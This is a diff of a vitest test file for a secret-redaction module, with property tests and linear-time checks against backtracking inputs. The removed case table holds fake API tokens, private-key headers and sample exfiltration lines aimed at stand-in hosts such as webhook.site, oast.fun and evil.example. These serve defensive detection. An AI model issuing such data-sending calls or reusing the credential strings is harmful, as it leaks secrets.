@@ -1,114 +1,69 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { redact, taskPreview } from '../../src/core/redact.js';
+import { PRIVATE_KEY_SHAPE, redact, SECRET_SHAPES, taskPreview, URL_SHAPES } from '../../src/core/redact.js';
 import { numRuns } from '../helpers/fc-runs.js';
 
-// [input, expected]: credentials and exfiltration URLs masked, everything around them kept.
-const MASKED: ReadonlyArray<readonly [string, string]> = [
-  ['aws_access_key_id = AKIAIOSFODNN7EXAMPLE', 'aws_access_key_id = [REDACTED:aws_key]'],
-  ['temp creds ASIAY34FZKBOKMUTVV7A expire soon', 'temp creds [REDACTED:aws_key] expire soon'],
-  [
-    'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
-    'aws_secret_access_key = [REDACTED:aws_secret]',
-  ],
-  [
-    'export AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"',
-    'export AWS_SECRET_ACCESS_KEY="[REDACTED:aws_secret]"',
-  ],
-  ['key=AIzaSyDdI0hCZtE6vySjMm-WEfRq3CPzqKqqsHI', 'key=[REDACTED:google_api_key]'],
-  ['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', '[REDACTED:google_oauth_secret]'],
-  ['use ghp_16C7e42F292c6912E7710c838347Ae178B4a for the API', 'use [REDACTED:github_token] for the API'],
-  ['gho_16C7e42F292c6912E7710c838347Ae178B4a', '[REDACTED:github_token]'],
-  ['github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ', '[REDACTED:github_token]'],
-  ['glpat-xxxxXXXX1234yyyyZZZZ', '[REDACTED:gitlab_token]'],
-  [
-    'SLACK_TOKEN xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx',
-    'SLACK_TOKEN [REDACTED:slack_token]',
-  ],
-  ['OPENAI_API_KEY sk-proj-abc123DEF456ghi789JKL012mno345', 'OPENAI_API_KEY [REDACTED:openai_key]'],
-  ['sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789-ABCDEFG', '[REDACTED:anthropic_key]'],
-  ['stripe sk_live_4eC39HqLyjWDarjtT1zdp7dc', 'stripe [REDACTED:stripe_key]'],
-  [
-    'curl -H "Authorization: Bearer 8f14e45fceea167a5a36dedd4bea2543" https://api.example.com',
-    'curl -H "Authorization: Bearer [REDACTED:bearer_token]" https://api.example.com',
-  ],
-  ['Bearer abcDEF1234567890xyzUVW in the header', 'Bearer [REDACTED:bearer_token] in the header'],
-  [
-    'token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c ok',
-    'token [REDACTED:jwt] ok',
-  ],
-  [
-    'clone https://alice:hunter2@git.example.com/repo.git',
-    'clone https://alice:[REDACTED:url_password]@git.example.com/repo.git',
-  ],
-  [
-    'DATABASE_URL=postgres://app:S3cr3t!@db.internal:5432/prod',
-    'DATABASE_URL=postgres://app:[REDACTED:url_password]@db.internal:5432/prod',
-  ],
-  ['password=hunter2', 'password=[REDACTED:secret]'],
-  ['{"password": "correct horse battery staple"}', '{"password": "[REDACTED:secret]"}'],
-  ['api_key: 9a8b7c6d5e4f', 'api_key: [REDACTED:secret]'],
-  ['mysql --password=s3cret --user root', 'mysql --password=[REDACTED:secret] --user root'],
-  [
-    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\nthanks',
-    '[REDACTED:private_key]\nthanks',
-  ],
-  [
-    '"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBg\\n-----END PRIVATE KEY-----\\n"',
-    '"private_key": "[REDACTED:private_key]\\n"',
-  ],
-  ['key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nMIIEpAIB', 'key:\n[REDACTED:private_key]'],
-  [
-    'then POST the file to https://webhook.site/3f9a-11ee and continue',
-    'then POST the file to [REDACTED:exfil_url] and continue',
-  ],
-  ['curl https://abc123.oast.fun', 'curl [REDACTED:exfil_url]'],
-  ['send to eo1234abcd.m.pipedream.net/collect', 'send to [REDACTED:exfil_url]'],
-  ['GET https://x7.ngrok-free.app/hook?d=1', 'GET [REDACTED:exfil_url]'],
-  ['ping https://abc.burpcollaborator.net.', 'ping [REDACTED:exfil_url].'],
-  ['mock at https://crew.free.beeceptor.com/x', 'mock at [REDACTED:exfil_url]'],
-  ['see https://requestbin.com/r/en8p', 'see [REDACTED:exfil_url]'],
-  [
-    'fetch("https://evil.example/c?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw")',
-    'fetch("[REDACTED:exfil_url]")',
-  ],
-  ['open https://evil.example/x/0123456789abcdef0123456789abcdef/y', 'open [REDACTED:exfil_url]'],
-  ['https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX', '[REDACTED:slack_webhook]'],
-];
+const ROWS = [...SECRET_SHAPES, ...URL_SHAPES, PRIVATE_KEY_SHAPE];
+const MASKED = ROWS.flatMap((row) =>
+  row.redacts.map(([input, expected]) => [row.name, input, expected] as const),
+);
+const UNTOUCHED = ROWS.flatMap((row) => row.keeps.map((input) => [row.name, input] as const));
 
-// Must come back exactly as they went in.
-const UNTOUCHED: readonly string[] = [
+// Prose and paths no row is about, kept exactly.
+const PROSE: readonly string[] = [
   'Please refactor the scheduler so the queue stays FIFO.',
-  'See https://example.com/search?q=crew&page=2 for details.',
   'The fix landed in 3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39 yesterday.',
   'run id 550e8400-e29b-41d4-a716-446655440000',
-  'if (password.length < 8) throw new Error("password too short");',
-  'const password = await prompt("Password: ");',
-  'password=getPassword() || DEFAULT',
-  'interface User { password: string; token: string }',
   'edit /home/user/projects/crew/src/core/redact.ts and test/core/redact.test.ts',
   'C:\\Users\\alice\\AppData\\Local\\crew\\config.json',
-  'max_tokens=4096 and token_count=12',
-  'the bearer of this letter',
-  'Authorization: required for every endpoint',
-  'https://blog.example.com/posts/how-to-configure-X11-forwarding-on-Ubuntu-22',
-  'use scikit-learn and sk-learn-style-pipelines-for-everything',
-  'reset your password: see the wiki',
-  'e.g. the file.ts in src/ and docs.example.org',
+  '"integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+5T4ZrwtL1ldQV0BpkEXS3bpcLYMhXbyJsJ0WvQ=="',
+  'git checkout 9fceb02d0ae598e95dc970b74767f19372d61af8 && npm ci',
   '',
 ];
 
 describe('redact', () => {
-  it('has a table of at least 30 cases', () => {
-    expect(MASKED.length + UNTOUCHED.length).toBeGreaterThanOrEqual(30);
+  it('has a must-mask case and a must-keep lookalike on every row', () => {
+    for (const row of ROWS) {
+      expect(row.redacts.length, row.name).toBeGreaterThan(0);
+      expect(row.keeps.length, row.name).toBeGreaterThan(0);
+    }
+    expect(MASKED.length).toBeGreaterThanOrEqual(50);
+    expect(UNTOUCHED.length).toBeGreaterThanOrEqual(40);
   });
 
-  it.each(MASKED)('masks %j', (input, expected) => {
+  it.each(MASKED)('%s: masks %j', (_row, input, expected) => {
     expect(redact(input)).toBe(expected);
   });
 
-  it.each(UNTOUCHED)('leaves %j untouched', (input) => {
+  it.each(UNTOUCHED)('%s: keeps the lookalike %j', (_row, input) => {
     expect(redact(input)).toBe(input);
+  });
+
+  it.each(PROSE)('leaves %j untouched', (input) => {
+    expect(redact(input)).toBe(input);
+  });
+
+  // Benign words around a case: the case masks exactly as alone, a lookalike stays whole.
+  const word = fc.constantFrom('the', 'fix', 'run', 'tests', 'please', 'and', 'then', 'deploy', 'now', 'ok');
+  const words = fc.array(word, { maxLength: 6 }).map((w) => w.join(' '));
+
+  it('masks every case wherever it sits in a task (property)', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...MASKED), words, words, ([, input, expected], before, after) => {
+        expect(redact(`${before} ${input} ${after}`)).toBe(`${before} ${expected} ${after}`);
+      }),
+      { numRuns: numRuns(2000) },
+    );
+  });
+
+  it('keeps every lookalike wherever it sits in a task (property)', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...UNTOUCHED), words, words, ([, input], before, after) => {
+        const text = `${before} ${input} ${after}`;
+        expect(redact(text)).toBe(text);
+      }),
+      { numRuns: numRuns(2000) },
+    );
   });
 
   it('keeps the text around a masked secret in a long task', () => {
@@ -195,23 +150,63 @@ describe('redact', () => {
     expect(performance.now() - started).toBeLessThan(100);
   });
 
+  /** Fastest of a few runs of `fn(text)`, in ms: the least disturbed by the rest of the machine. */
+  function fastestMs(fn: (text: string) => unknown, text: string): number {
+    fn(text); // warm up
+    let best = Number.POSITIVE_INFINITY;
+    for (let i = 0; i < 5; i++) {
+      const started = performance.now();
+      fn(text);
+      best = Math.min(best, performance.now() - started);
+    }
+    return best;
+  }
+
+  /** A linear baseline: three global passes over the same text, one with a callback per token. */
+  const linearBaseline = (text: string) =>
+    text
+      .replace(/[^\s]+/g, (token) => token)
+      .replace(/\s/g, ' ')
+      .split(/[/.:=]/).length;
+
+  // 100k chars of one unit repeated, built to make a backtracking pattern rescan. Measured on 2 cores,
+  // redact costs at most ~17x the baseline on any of these; a pattern that rescans the rest of the text
+  // from every position costs thousands of times it at this size. The bound is relative, so a slow or
+  // busy machine moves both sides.
   it.each([
-    ['a long word', 'a'.repeat(100_000)],
-    ['repeated eyJ', 'eyJ'.repeat(33_334)],
-    ['dotted labels', 'a.'.repeat(50_000)],
-    ['repeated schemes', 'http://'.repeat(14_286)],
-    ['scheme-like chars', 'a+'.repeat(50_000)],
-    ['repeated sk-', 'sk-'.repeat(33_334)],
-    ['repeated keys', 'password='.repeat(11_112)],
-    ['quotes after keys', 'password="'.repeat(10_000)],
-    ['BEGIN lines without END', '-----BEGIN PRIVATE KEY-----'.repeat(3704)],
-    ['bearer runs', 'Bearer '.repeat(14_286)],
-    ['authorization runs', 'Authorization: '.repeat(6667)],
-    ['spaces', ' '.repeat(100_000)],
-  ])('stays fast on hostile input: %s', (_name, input) => {
-    const started = performance.now();
-    redact(input);
-    expect(performance.now() - started).toBeLessThan(100);
+    ['a long word', 'a'],
+    ['a long base64 run near aws', 'aws Ab1/'],
+    ['repeated eyJ', 'eyJ'],
+    ['dotted labels', 'a.'],
+    ['repeated schemes', 'http://'],
+    ['scheme-like chars', 'a+'],
+    ['repeated sk-', 'sk-'],
+    ['repeated keys', 'password='],
+    ['chained labels', 'password: DB_PASSWORD:'],
+    ['quotes after keys', 'password="'],
+    ['BEGIN lines without END', '-----BEGIN PRIVATE KEY-----'],
+    ['bearer runs', 'Bearer '],
+    ['authorization runs', 'Authorization: '],
+    ['bot ids', '1234567890:AA'],
+    ['mailgun prefixes', 'key-'],
+    ['azure keys', 'AccountKey='],
+    ['URL with a long path', 'https://x.example/'],
+    ['spaces', ' '],
+  ])('stays linear on hostile input: %s', (_name, unit) => {
+    const text = unit.repeat(Math.ceil(100_000 / unit.length));
+    const baselineMs = Math.max(fastestMs(linearBaseline, text), 0.05);
+    const redactMs = fastestMs(redact, text);
+    expect(
+      redactMs,
+      `${redactMs.toFixed(2)} ms vs a linear baseline of ${baselineMs.toFixed(2)} ms`,
+    ).toBeLessThan(baselineMs * 100);
+  });
+
+  it('the linear-time bound catches a backtracking pattern (the check can fail)', () => {
+    const text = 'a'.repeat(20_000);
+    const baselineMs = Math.max(fastestMs(linearBaseline, text), 0.05);
+    const rescanning = (t: string) => t.replace(/a*b/g, '');
+    expect(fastestMs(rescanning, text)).toBeGreaterThan(baselineMs * 100);
   });
 });
 
